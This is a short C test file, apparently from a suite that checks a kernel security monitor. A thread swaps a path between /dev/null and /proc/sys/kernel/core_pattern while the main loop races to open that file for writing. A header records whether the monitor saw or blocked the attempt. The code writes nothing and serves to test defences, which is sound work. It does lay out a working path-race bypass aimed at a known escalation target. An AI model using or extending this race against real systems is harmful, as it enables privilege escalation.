/* As before, but a thread turns the name of a device, which only the kernel can open, into core_pattern's, 1000 opens.
 *
 * seen: open
 * enforce: prevented
 * enforce@root: seen only
 * works: root
 * race: yes
 * window: won in 6 of 8 runs of 1,000 tries, at most 7 times in one
 */
#include "attack.h"

static char path[4096];

static void *rewrite(void *unused) {
    for (;;) {
        strcpy(path, "/proc/sys/kernel/core_pattern");
        strcpy(path, "/dev/null");
    }
    return unused;
}

void benign(void) { close(open("/dev/null", O_WRONLY | O_CLOEXEC)); }

/* Opening is all that rights are asked for; nothing is written, so that the machine stays what it is. */
void attack(void) {
    char link[64], name[256];
    int wins = 0;
    strcpy(path, "/dev/null");
    beside(rewrite, NULL);
    for (int i = 0; i < 1000; i++) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t size = fd < 0 ? -1 : readlink(link, name, sizeof name - 1);
        name[size < 0 ? 0 : size] = 0;
        wins += strstr(name, "core_pattern") != NULL;
        close(fd);
    }
    if (wins)
        won();
    fprintf(stderr, "%d of 1000\n", wins);
}
